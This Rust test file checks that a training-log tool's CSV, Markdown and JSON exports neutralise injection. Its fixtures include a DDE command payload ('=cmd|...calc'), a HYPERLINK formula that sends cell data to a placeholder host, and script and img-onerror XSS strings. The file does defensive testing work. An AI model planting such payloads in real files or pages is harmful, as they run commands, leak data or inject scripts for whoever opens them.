//! Exports must not attack what opens them (issue 10): no csv cell starts a formula, and the
//! round trip through `import` is exact; the md report escapes what HTML would run; no
//! invisible format character reaches md or csv, and json escapes them.

mod common;

use common::{DataFile, stdout_of};

const TITLES: [&str; 7] = [
    "=HYPERLINK(\"http://contoh.test/?\"&A2,\"Klik\")",
    "-foo",
    "+62 812 555",
    "@SUM(A1:A9)",
    "'=sudah dikutip",
    "'apostrof biasa",
    "Pelatihan biasa",
];

fn hostile_logs() -> String {
    let mut text = String::new();
    for (i, title) in TITLES.iter().enumerate() {
        let title = title.replace('\\', "\\\\").replace('"', "\\\"");
        text.push_str(&format!(
            "[[log]]\nid = \"l{n}\"\ndate = 2026-03-{day:02}\njp = 2\ntitle = \"{title}\"\nprovider = \"=cmd|' /C calc'!A0\"\ncertificate = \"-{n}\"\n\n",
            n = i + 1,
            day = i + 1,
        ));
    }
    text
}

#[test]
fn csv_cells_never_start_a_formula_and_import_takes_the_quote_off_exactly() {
    let source = DataFile::with(&hostile_logs());
    let csv = stdout_of(source.run().args(["export", "--format", "csv"]));
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
    }
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(csv.contains("''=sudah dikutip"), "{csv}");

    let target = DataFile::empty();
    let sheet = target.dir().join("rows.csv");
    std::fs::write(&sheet, &csv).unwrap();
    target.run().arg("import").arg(&sheet).assert().success();
    let imported = target.plan();
    let titles: Vec<&str> = imported.logs.iter().map(|l| l.title.as_str()).collect();
    assert_eq!(titles, TITLES);
    for (n, log) in imported.logs.iter().enumerate() {
        assert_eq!(log.provider, "=cmd|' /C calc'!A0");
        assert_eq!(log.certificate, format!("-{}", n + 1));
    }
    // And once more: exporting what was imported gives the same csv.
    assert_eq!(stdout_of(target.run().args(["export", "--format", "csv"])), csv);
}

#[test]
fn the_md_report_escapes_html() {
    let file = DataFile::with(
        "[[training]]\nid = \"t1\"\nyear = 2026\ntitle = \"Kursus <b>tebal</b> & lainnya\"\nplanned_jp = 4\n\
         start = 2026-09-01\nwhy = \"<script>alert('x')</script>\"\n\n\
         [[log]]\nid = \"l1\"\ndate = 2026-03-02\njp = 2\ntitle = \"<img src=x onerror=alert(1)>\"\n\n\
         [[reflection]]\nid = \"r1\"\nlog = \"l1\"\ndate = 2026-03-03\nchanged = \"Saya <i>menulis</i> A&B\"\n",
    );
    let md = stdout_of(file.run().args(["export", "--format", "md"]));
    for raw in ["<script>", "<img", "<b>", "<i>", " & "] {
        assert!(!md.contains(raw), "{raw} is in the report as is:\n{md}");
    }
    assert!(md.contains("&lt;script&gt;alert('x')&lt;/script&gt;"), "{md}");
    assert!(md.contains("Kursus &lt;b&gt;tebal&lt;/b&gt; &amp; lainnya"), "{md}");
    assert!(md.contains("Saya &lt;i&gt;menulis&lt;/i&gt; A&amp;B"), "{md}");
}

#[test]
fn format_characters_leave_md_and_csv_and_are_escaped_in_json() {
    let title = "Pe\u{AD}la\u{200B}ti\u{202E}han\u{2066}\u{FEFF}\u{E0041}";
    let file =
        DataFile::with(&format!("[[log]]\nid = \"l1\"\ndate = 2026-03-02\njp = 2\ntitle = \"{title}\"\n"));
    let invisible = |text: &str| text.chars().any(tumbuh::printable::is_format);
    for format in ["md", "csv"] {
        let out = stdout_of(file.run().args(["export", "--format", format]));
        assert!(!invisible(&out), "{format} holds a format character");
        assert!(out.contains("Pelatihan"), "{format}: {out}");
    }
    let json = stdout_of(file.run().args(["export", "--format", "json"]));
    assert!(!invisible(&json), "json holds a raw format character");
    assert!(json.contains("\\u00ad") && json.contains("\\u202e"), "{json}");
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(value.to_string().contains("Pe\u{AD}la"), "json keeps the value itself");
}
